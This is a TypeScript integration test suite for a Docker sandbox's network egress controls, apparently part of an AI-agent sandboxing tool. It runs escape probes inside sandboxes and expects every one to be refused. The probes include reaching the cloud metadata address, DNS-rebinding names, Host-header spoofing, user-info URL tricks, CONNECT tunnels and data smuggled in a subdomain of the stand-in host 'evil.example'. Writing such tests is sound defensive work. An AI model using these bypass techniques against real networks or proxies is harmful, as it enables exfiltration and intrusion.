import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DockerDriver } from '../../../src/sandbox/docker/docker-driver.ts';
import type { DockerSandbox } from '../../../src/sandbox/docker/docker-sandbox.ts';
import { ensureBrowserImage } from '../../../src/sandbox/docker/image/browser-image.ts';
import type { EgressDecision } from '../../../src/sandbox/egress/egress-decision.ts';
import type { WayOut } from '../../../src/sandbox/sandbox-driver.ts';
import { Bench, nothing } from './desktop.ts';
import { portOf } from '../../support/port-of.ts';

const PUBLIC = '93.184.215.14';
/** What the resolver of the test knows: nobody outside is asked. */
const names: Readonly<Record<string, readonly string[]>> = {
  'good.example': [PUBLIC],
  'www.good.example': [PUBLIC],
  'inside.good.example': ['10.0.0.5'],
  'rebound.good.example': ['127.0.0.1'],
  'metadata.good.example': ['169.254.169.254'],
  'evil.example': [PUBLIC],
};

let bench: Bench;
let web: Server;
let driver: DockerDriver;
const reached: string[] = [];
const asked: string[] = [];

/** Every address that is dialled leads to the one server of the test, on this host's loopback. */
async function openDriver(): Promise<DockerDriver> {
  const port = portOf(web);
  return await bench.driver({
    egress: {
      resolve: (name) => {
        asked.push(name);
        return Promise.resolve(names[name] ?? []);
      },
      dial: async () => {
        const socket = connect({ host: '127.0.0.1', port });
        await once(socket, 'connect');
        return socket;
      },
    },
  });
}

beforeAll(async () => {
  bench = await Bench.open();
  web = createServer((request, response) => {
    reached.push(`${request.method} ${request.headers.host}${request.url}`);
    if (request.url === '/away') response.writeHead(302, { location: 'http://evil.example/' });
    response.end('<title>It is reached</title>hello');
  });
  web.listen(0, '127.0.0.1');
  await once(web, 'listening');
  driver = await openDriver();
});

afterAll(async () => {
  await driver[Symbol.asyncDispose]();
  web.closeAllConnections();
  web.close();
  await bench[Symbol.asyncDispose]();
});

const prelude = `
import os, socket, sys, urllib.request
socket.setdefaulttimeout(5)
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.connect((host, port)); return s
def say(s, text):
    s.sendall(text.encode()); got = b''
    while True:
        part = s.recv(65536)
        if not part: return got.decode('latin1')
        got += part
def proxy(text): return say(tcp('127.0.0.1', 3128), text)
def beside(text):
    s = socket.socket(socket.AF_UNIX); s.connect('/egress/proxy.sock'); return say(s, text)
def get(url): return urllib.request.urlopen(url).read().decode()
def tunnel(to, then): return proxy('CONNECT ' + to + ' HTTP/1.1\\r\\n\\r\\n' + then)
`;

async function python(sandbox: DockerSandbox, script: string): Promise<string> {
  const { stdout, stderr } = await sandbox.exec(['python3', '-c', `${prelude}\nprint(${script})`]);
  return `${stdout.toString()}${stderr.toString().trim().split('\n').at(-1) ?? ''}`;
}

const request = (url: string, host: string): string =>
  `'GET ${url} HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n'`;

describe('a sandbox that may reach some names', () => {
  let sandbox: DockerSandbox;
  const decisions: EgressDecision[] = [];

  beforeAll(async () => {
    sandbox = await driver.create({ ...bench.spec, allowDomains: ['good.example', '*.good.example'] });
    sandbox.onEgress((decision) => decisions.push(decision));
  });

  it.each([
    ['by its proxy variables', `get('http://good.example/')`],
    ['by the relay', `proxy(${request('http://www.good.example/', 'www.good.example')})`],
    ['by the socket itself', `beside(${request('http://good.example/', 'good.example')})`],
  ])('reaches them %s', async (_name, script) => {
    expect(await python(sandbox, script)).toContain('hello');
  });

  const NOWHERE = 'Network is unreachable';
  it.each([
    ['a connection past the proxy', `tcp('${PUBLIC}', 80)`, NOWHERE],
    ['a connection to the gateway of the engine', `tcp('172.17.0.1', 80)`, NOWHERE],
    ['the metadata service', `tcp('169.254.169.254', 80)`, NOWHERE],
    ['IPv6', `tcp('2606:4700::1111', 443, socket.AF_INET6)`, /unreachable|Cannot assign/],
    [
      'a name server elsewhere',
      `socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))`,
      NOWHERE,
    ],
    ['the resolver', `socket.getaddrinfo('good.example', 80)`, /name resolution|Name or service/],
    ['a raw socket', `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)`, 'Operation not permitted'],
    ['a packet socket', `socket.socket(socket.AF_PACKET, socket.SOCK_RAW)`, /not permitted|not supported/],
    ['a netlink route of its own', `os.popen('ip link add x type dummy 2>&1; echo failed').read()`, 'failed'],
    [
      'a socket in place of the proxy',
      `os.rename('/egress/proxy.sock', '/egress/x')`,
      'Read-only file system',
    ],
    ['a file beside the socket', `open('/egress/big', 'w')`, 'Read-only file system'],
    ['a name that is not listed', `get('http://evil.example/')`, '403'],
    [
      'a name that is not listed, by the socket',
      `beside(${request('http://evil.example/', 'evil.example')})`,
      '403',
    ],
    ['another port', `get('http://good.example:8080/')`, '403'],
    ['a raw address', `get('http://${PUBLIC}/')`, '403'],
    ['an address written as a number', `proxy(${request('http://2130706433/', '2130706433')})`, '403'],
    ['an IPv6 address', `proxy(${request('http://[2606:4700::1111]/', '[2606:4700::1111]')})`, '403'],
    ['the loopback of the host', `tunnel('127.0.0.1:443', '')`, '403'],
    ['a name that leads inside', `get('http://inside.good.example/')`, '403'],
    ['a name that was bound to the loopback', `get('http://rebound.good.example/')`, '403'],
    ['a name that leads to the metadata service', `get('http://metadata.good.example/')`, '403'],
    ['data hidden in a name', `get('http://c2VjcmV0.tunnel.evil.example/')`, '403'],
    ['a redirect', `get('http://good.example/away')`, '403'],
    ['a Host that is another', `proxy(${request('http://good.example/', 'evil.example')})`, '403'],
    [
      'a user name that looks like a host',
      `proxy(${request('http://good.example@evil.example/', 'good.example')})`,
      '403',
    ],
    [
      'a path that looks like an address',
      `proxy(${request('/http://good.example/', 'good.example')})`,
      '403',
    ],
    ['a tunnel to another name', `tunnel('evil.example:443', '')`, '403'],
    ['a tunnel to another port', `tunnel('good.example:22', '')`, '403'],
    [
      'plain HTTP to another host in a tunnel',
      `tunnel('good.example:80', ${request('/', 'evil.example')})`,
      /^(?![^]*hello)/,
    ],
  ])('does not reach %s', async (_name, script, answer) => {
    const before = reached.length;
    expect(await python(sandbox, script)).toMatch(answer);
    expect(reached.slice(before).filter((line) => !line.endsWith('good.example/away'))).toEqual([]);
  });

  it('asked its resolver for no name but the listed', () => {
    expect(asked.filter((name) => !/^(?:[a-z]+\.)?good\.example$/.test(name))).toEqual([]);
  });

  it('has every decision told', () => {
    expect(decisions).toContainEqual({
      method: 'GET',
      host: 'good.example',
      port: 80,
      decision: 'allowed',
      reason: PUBLIC,
    });
    expect(decisions).toContainEqual({
      method: 'CONNECT',
      host: 'evil.example',
      port: 443,
      decision: 'refused',
      reason: 'not on the list',
    });
  });
});

describe('a sandbox that may reach all that is public', () => {
  it('reaches a public name, and nothing of this host or of another sandbox', async () => {
    const [sandbox, other] = await Promise.all([
      driver.create({ ...bench.spec, network: 'full' }),
      driver.create({ ...bench.spec, network: 'full' }),
    ]);
    expect(await python(sandbox, `get('http://evil.example/')`)).toContain('hello');
    await other.exec(['sh', '-c', 'setsid -f socat TCP-LISTEN:9999,fork EXEC:"echo hello" >/dev/null 2>&1']);
    expect(await python(sandbox, `tcp('127.0.0.1', 9999)`)).toContain('Connection refused');
    const own = Object.values(networkInterfaces()).flatMap((found) => found ?? []);
    for (const { address, family, scopeid } of own) {
      if (scopeid) continue;
      const authority = family === 'IPv6' ? `[${address}]:80` : `${address}:80`;
      expect(await python(sandbox, `tunnel('${authority}', '')`)).toContain('403');
    }
    expect(await python(sandbox, `tunnel('169.254.169.254:80', '')`)).toContain('403');
    expect(await python(sandbox, `tunnel('rebound.good.example:80', '')`)).toContain('403');
  });
});

describe('Chromium in a sandbox that may reach some names', () => {
  it('shows a page of one of them, and none of another', async () => {
    const { reference: image } = await ensureBrowserImage(bench.engine);
    const spec = { ...bench.spec, image, pidsLimit: 512, allowDomains: ['good.example'] };
    const sandbox = await driver.create(spec);
    const decisions: EgressDecision[] = [];
    sandbox.onEgress((decision) => decisions.push(decision));
    const start = async (url: string) =>
      await sandbox.exec(['sh', '-c', `setsid -f chromium ${url} </dev/null >/dev/null 2>&1`]);
    const titles = async () => (await sandbox.exec(['wmctrl', '-l'])).stdout.toString();
    await start('http://good.example/page');
    await expect.poll(titles, { timeout: 30_000 }).toContain('It is reached - Chromium');
    await start('http://evil.example/');
    await expect.poll(titles, { timeout: 30_000 }).toContain('evil.example - Chromium');
    // Of its own accord it asks for nothing.
    const hosts = decisions.map(({ host, decision }) => `${host} ${decision}`);
    expect(new Set(hosts)).toEqual(new Set(['good.example allowed', 'evil.example refused']));
  });
});

describe('the driver of sandboxes with a way out', () => {
  it('leaves nothing behind', async () => {
    await driver[Symbol.asyncDispose]();
    expect(await bench.leftovers()).toEqual(nothing);
  });
});

describe('a sandbox that is taken over from a process that was killed', () => {
  it.each<WayOut>([{ network: 'none', allowDomains: ['good.example'] }, { network: 'full' }])(
    'has its way out again, and no other: %j',
    async (wayOut) => {
      const script = fileURLToPath(new URL('./hold-sandbox.ts', import.meta.url));
      const argv = [script, bench.runtimeFolder, 'auto', JSON.stringify(wayOut)];
      const holder = spawn(process.execPath, argv, { stdio: ['ignore', 'pipe', 'inherit'] });
      const [output] = await once(holder.stdout, 'data');
      holder.kill('SIGKILL');
      await once(holder, 'close');
      const sandbox = await driver.adopt(String(output).trim(), { wayOut });
      const decisions: EgressDecision[] = [];
      sandbox.onEgress((decision) => decisions.push(decision));
      expect(await python(sandbox, `get('http://good.example/')`)).toContain('hello');
      expect(await python(sandbox, `get('http://inside.good.example/')`)).toContain('HTTP Error 403');
      expect(decisions.map(({ decision }) => decision)).toEqual(['allowed', 'refused']);
      await sandbox[Symbol.asyncDispose]();
      expect(await bench.leftovers()).toEqual(nothing);
    },
  );
});
